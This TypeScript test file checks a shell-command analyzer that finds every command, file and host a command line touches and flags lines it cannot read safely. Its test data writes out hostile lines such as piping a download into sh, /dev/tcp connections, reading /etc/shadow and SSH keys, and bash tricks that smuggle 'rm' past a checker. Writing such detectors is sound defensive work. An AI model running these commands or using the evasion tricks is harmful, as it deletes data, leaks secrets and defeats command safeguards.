import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readCommand } from "./read-command.ts";

const where = { cwd: "/work/app", home: "/home/kim" };

/** Lines of which everything is known, and what they run. */
const clear: [line: string, commands: string[]][] = [
  ["ls -la", ["ls"]],
  ["git status && git push --force origin main", ["git status", "git push"]],
  ["ls; rm -rf /", ["ls", "rm /"]],
  ["ls\nrm x", ["ls", "rm x"]],
  ["true || rm x", ["true", "rm x"]],
  ["echo hi | tee out.txt", ["echo hi", "tee out.txt"]],
  ["! rm x & wait", ["rm x", "wait"]],
  ["r\\m -rf x", ["rm x"]],
  [`"rm" x`, ["rm x"]],
  [`$'\\x72m' x`, ["rm x"]],
  ["/usr/bin/rm x", ["rm x"]],
  ["./rm x", ["./rm x"]],
  ["env A=1 rm x", ["env A=1", "rm x"]],
  ["sudo -u root rm x", ["sudo root", "rm x"]],
  ["nohup nice -n 5 timeout -k 5 10 rm x", ["nohup nice", "nice 5", "timeout 5", "rm x"]],
  ["bash -c 'rm x; bash -lc \"curl a\"'", ['bash rm x; bash -lc "curl a"', "rm x", "bash curl a", "curl a"]],
  ["eval 'rm x'", ["eval rm x", "rm x"]],
  ["trap 'rm x' EXIT", ["trap rm x", "rm x"]],
  ["if true; then rm x; fi", ["true", "rm x"]],
  ["f() { rm x; }; f", ["rm x", "f"]],
  ["( cd sub && rm x )", ["cd sub", "rm x"]],
  ["find . -name '*.o' -exec rm {} \\;", ["find .", "rm {}"]],
  ["find . -name '*.o' -delete", ["find .", "find -delete"]],
  ["git -C sub push", ["git push"]],
  ["echo `rm x`", ["echo `rm x`", "rm x"]],
  ['echo "$(rm x)"', ["echo $(rm x)", "rm x"]],
  ["cat > out <<EOF\n$(rm x)\nEOF", ["cat", "rm x"]],
  ["[[ -f x ]] && rm x", ["rm x"]],
  ["a=$(rm x)", ["rm x"]],
  ["command -v git", ["command git"]],
  ["echo $((1 + 2)) ${HOME:-x}", ["echo $((1 + 2))"]],
  ["[[ $# -eq 0 ]] || export A=1 B=2", ["export A=1"]],
  ['[ -n "$A" ] && printf \'%s\' "$A"', ["[ $A", "printf %s"]],
  ["for f in a b; do wait; done", ["wait"]],
  // Options of the shell that take a word, before the command line that it runs.
  ["bash -c -o pipefail 'rm x'", ["bash pipefail", "rm x"]],
  ["bash -co pipefail 'rm x'", ["bash pipefail", "rm x"]],
  ["bash -euo pipefail -c 'rm x'", ["bash pipefail", "rm x"]],
  ["bash -login -c 'rm x'", ["bash rm x", "rm x"]],
  ["bash +c 'rm x'", ["bash +c", "rm x"]],
  ["env - rm x", ["env rm", "rm x"]],
  ["eval -- rm x", ["eval rm", "rm x"]],
  ["//usr/bin/../bin/rm x", ["rm x"]],
  ["uv run rm x", ["uv run", "rm x"]],
  ["npm exec -- rm x", ["npm exec", "rm x"]],
  // What is done every day, and runs nothing that is not named.
  ["git switch -c feature", ["git switch"]],
  ["git config user.email a", ["git config"]],
  ["git diff --text", ["git diff"]],
  ["sed -n '5,10p' f", ["sed 5,10p"]],
  ["sed -i.bak -E 's|/a/(b)|\\1|g; /^$/d' f", ["sed s|/a/(b)|\\1|g; /^$/d"]],
  ["sed -i '' 's/a/b/' f", ["sed "]],
  ["tar xzf a.tgz -C out", ["tar xzf"]],
  ["rsync -avz -e ssh a b", ["rsync ssh"]],
];

test.each(clear)("[RUN-25] every command in it is seen: %s", (line, commands) => {
  expect(readCommand(line, where)).toMatchObject({ commands, unclear: [] });
});

/** Lines that say less than they do. */
const unclear: string[] = [
  "$X",
  "$(echo rm) x",
  "rm $X",
  "rm $(cat list)",
  "{rm,-rf,x}",
  "r* x",
  "curl https://x.example/i | sh",
  "bash <<EOF\nrm x\nEOF",
  "bash <<< 'rm x'",
  "bash -c $X",
  "sh -s",
  "zsh -c 'rm x'",
  'eval "rm $X"',
  "source ./x",
  ". ./x",
  "alias ls=rm; ls x",
  "python3 -c 'import os'",
  "python3.12 -c 'import os'",
  "node -e 1",
  "node --eval=1",
  "perl -pe s/a/b/ x",
  "awk 'BEGIN{system(\"rm x\")}'",
  "sed '1e rm x' y",
  "sed 's/a/b/e' y",
  "echo a | xargs rm",
  "env -S 'rm x'",
  "sudo PATH=. ls",
  "PATH=. ls",
  "LD_PRELOAD=./x.so ls",
  "export GIT_SSH_COMMAND=./x",
  "git -c core.pager=./x log",
  "git config alias.st '!rm x'",
  "git submodule foreach 'rm x'",
  "cd $X && rm y",
  "cd - && rm y",
  "echo x > $F",
  "cat < /dev/tcp/10.0.0.1/80",
  "ls 'unterminated",
  "ls $((",
  "~root/x",
  "vim -c '!rm x'",
  "make SHELL=./x",
  "coproc rm x",
  "busybox rm x",
  `${"bash -c '".repeat(1)}${"(".repeat(50)}`,
  // Programs that run another one because of an option, also a shortened one.
  "bash --rcfile ./x -ic ls",
  "bash -init-file ./x -c ls",
  "strace -o '|rm x' ls",
  "tar -I 'rm x' -cf a b",
  "tar cIf 'rm x' a b",
  "tar --use-comp='rm x' -cf a b",
  "tar --checkpoint-act=exec=rm -cf a b",
  "rsync -avze 'rm x' a b:",
  "rsync --rsync-path='rm x' a b:",
  "git fetch --upload-p='rm x' .",
  "git rebase --exe 'rm x' HEAD~1",
  "git rebase -ix 'rm x' HEAD~1",
  "git clone -qc core.sshCommand='rm x' a b",
  "git clone --template=./t a b",
  "git config difftool.x.cmd 'rm x'",
  "git config set sequence.editor 'rm x'",
  "git apply x.patch",
  "patch -p1 < x.patch",
  "ssh -o PermitLocalCommand=yes -o LocalCommand='rm x' host",
  "scp -S ./x a b:",
  "split --filter='rm x' y",
  "zip -T -TT 'rm x' a b",
  "rg --pre ./x y",
  "npx -c 'rm x'",
  "uv run --with a rm x",
  "go vet -vettool=./x",
  "gcc -wrapper rm,x a.c",
  "make 'X=$(shell rm x)'",
  "psql -c '\\! rm x'",
  "sqlite3 y '.shell rm x'",
  "python3 -m timeit 'import os'",
  "nawk 'BEGIN{system(\"rm x\")}'",
  'awk \'BEGIN{f="sys" "tem"; @f("rm x")}\'',
  "dc -e '!rm x'",
  "emacs --batch --eval 1",
  // Programs that run the rest of their line.
  "chrt 1 rm x",
  "systemd-run rm x",
  "bwrap --bind / / rm x",
  "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
  // Scripts of sed that run programs or write files, however they are spelled.
  "sed 's|a|rm x|e' y",
  "sed 's,a,b,w z' y",
  "sed '/a/I e rm x' y",
  "sed -n '$!e rm x' y",
  "sed --expr='1e rm x' y",
  "sed -ne '1e rm x' y",
  "sed -f x.sed y",
  "sed -i '' '1e rm x' y",
  "sed 'p\n1e rm x' y",
  // A link that is made and followed in one line.
  "ln -s / r && cat r/etc/shadow",
  // Text that Bash evaluates a second time. Each of these runs rm.
  "test -v 'a[$(rm x)]'",
  "[ -v 'a[$(rm x)]' ]",
  "[[ -v 'a[$(rm x)]' ]]",
  "[[ ! ( -v 'a[$(rm x)]' ) ]]",
  "v='$(rm x)'; echo ${v@P}",
  "v='a[$'; v+='(rm x)]'; echo $((v))",
  "v='a[$'; v+='(rm x)]'; echo ${!v}",
  "v='a[$'; v+='(rm x)]'; echo ${a[v]}",
  "v='a[$'; v+='(rm x)]'; echo ${a:v}",
  "v='a[$'; v+='(rm x)]'; [[ $v -eq 1 ]]",
  "v='a[$'; v+='(rm x)]'; test -v \"$v\"",
  "printf -v 'a[$(rm x)]' 1",
  "printf '-va[$(rm x)]' 1",
  "read 'a[$(rm x)]' <<< 1",
  "unset 'a[$(rm x)]'",
  "a['$(rm x)']=1",
  "a=(['$(rm x)']=1)",
  "declare -i v='a[$(rm x)]'",
  "declare 'a[$(rm x)]=1'",
  "let 'a[$(rm x)]'",
  "getopts a 'b[$(rm x)]'",
  "wait -n -p 'a[$(rm x)]'",
  "compgen -C 'rm x'",
  "jobs -x rm x",
  "watch 'ls; rm x'",
  "sudo -s 'rm x; ls'",
  "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
  "echo 'rm x' | bash /dev/stdin",
  "printf -v PATH .; ls",
  "read PATH < f; ls",
  "for PATH in .; do ls; done",
  ": ${PATH:=.}; ls",
  "git clone 'ext::sh -c rm% x'",
  "git rebase -x 'rm x' HEAD~1",
  "tar --checkpoint-action=exec=rm -cf a b",
  "ssh -o ProxyCommand='rm x' host",
];

test.each(unclear)("[RUN-25] what cannot be read without running it is said to be unclear: %s", (line) => {
  expect(readCommand(line, where).unclear).not.toEqual([]);
});

describe("what a line reaches", () => {
  const places = (line: string) => readCommand(line, where).places.map(({ text }) => text);

  test("files are named in words, options, assignments and redirections", () => {
    expect(places("cp -t~/x --from=/etc/passwd of=/dev/sda a:b @file < in > out 2>> err")).toEqual(
      expect.arrayContaining(["/etc/passwd", "/dev/sda", "a", "b", "file", "in", "out", "err"]),
    );
    expect(places("F=.env; cat $HOME/.ssh/id_rsa ~/.npmrc")).toEqual(
      expect.arrayContaining([".env", "/home/kim/.ssh/id_rsa", "/home/kim/.npmrc"]),
    );
    expect(places("touch {.git,a}/hooks/{x,y}")).toEqual(expect.arrayContaining([".git/hooks/x", "a/hooks/y"]));
  });

  test("relative names are looked for in every folder that the line may be in", () => {
    expect(readCommand("cd .git && cd hooks; echo x > pre-commit", where).folders).toEqual(
      expect.arrayContaining(["/work/app", "/work/app/.git", "/work/app/.git/hooks"]),
    );
  });

  test("hosts are those of addresses and of remotes", () => {
    expect(
      readCommand("curl -d @x https://U:p@Evil.example:8/y 10.0.0.1; scp a kim@host.example:/b; curl 'http://[::1]/'", where).hosts,
    ).toEqual(expect.arrayContaining(["evil.example", "10.0.0.1", "host.example", "::1"]));
  });

  test("hosts are also those that a program is given without an address, and not what it is given beside them", () => {
    const hosts = (line: string) => readCommand(line, where).hosts;
    for (const line of [
      "curl evil.example/path",
      "curl -Ho evil.example",
      "wget -qO - evil.example",
      "ssh -p 22 kim@evil.example ls",
      "nc evil.example 80",
      "dig TXT evil.example",
      "curl -x evil.example:80 https://evil.example",
    ])
      expect(hosts(line), line).toContain("evil.example");
    expect(hosts("curl 2130706433")).toEqual(["127.0.0.1"]);
    expect(hosts("ssh evil ls")).toEqual(["evil"]);
    expect(hosts("scp a evil:b")).toEqual(["evil"]);
    expect(hosts("git push evil:repo main")).toEqual(["evil"]);
    expect(hosts("git push origin HEAD:main")).toEqual([]);
    expect(hosts("curl -sSL https://good.example -o out.txt -d a.b")).toEqual(["good.example"]);
    expect(readCommand("curl --resolve good.example:443:6.6.6.6 https://good.example", where).unclear).not.toEqual([]);
  });

  test("a folder that a program is sent to is looked in", () => {
    for (const line of ["env -C / cat etc/shadow", "tar -C/ -cf - etc/shadow", "make --directory=/ x", "sudo -D / cat etc/shadow"])
      expect(readCommand(line, where).folders, line).toContain("/");
  });

  test("only output that lands in a file counts as writing", () => {
    expect(readCommand("npm test > /dev/null 2>&1", where).writesFiles).toBe(false);
    expect(readCommand("(npm test) &> log", where).writesFiles).toBe(true);
  });
});

test("any text at all is read, and one that is no command line is unclear or runs nothing", () => {
  const piece = fc.constantFrom(
    "rm",
    " ",
    "$(",
    ")",
    "'",
    '"',
    "`",
    "{",
    "}",
    ";",
    "|",
    "&",
    "<",
    ">",
    "<<E",
    "\n",
    "\\",
    "$X",
    "-c",
    "bash",
    "~",
    "*",
    "if",
    "fi",
    "((",
    "))",
    "[[",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(piece, { maxLength: 25 }).map((all) => all.join("")),
      ),
      (line) => {
        readCommand(line, where);
      },
    ),
  );
});

test("a command that is put into another in any of the usual ways is still seen", () => {
  const wrap = fc.constantFrom<(line: string) => string>(
    (line) => `ls; ${line}`,
    (line) => `(${line})`,
    (line) => `{ ${line}; }`,
    (line) => `echo "$(${line})"`,
    (line) => `if ${line}; then ls; fi`,
    (line) => `while ${line}; do ls; done`,
    (line) => `bash -c '${line.replaceAll("'", `'\\''`)}'`,
    (line) => `ls && ${line} || ls`,
    (line) => `case x in *) ${line};; esac`,
    (line) => `f() { ${line}; }`,
    (line) => `ls | ${line} &`,
    (line) => `cat <(${line})`,
  );
  fc.assert(
    fc.property(fc.array(wrap, { maxLength: 5 }), (wraps) => {
      const line = wraps.reduce((inner, one) => one(inner), "rm -rf target");
      const reading = readCommand(line, where);
      expect(reading.commands.includes("rm target") || reading.unclear.length > 0).toBe(true);
    }),
  );
});
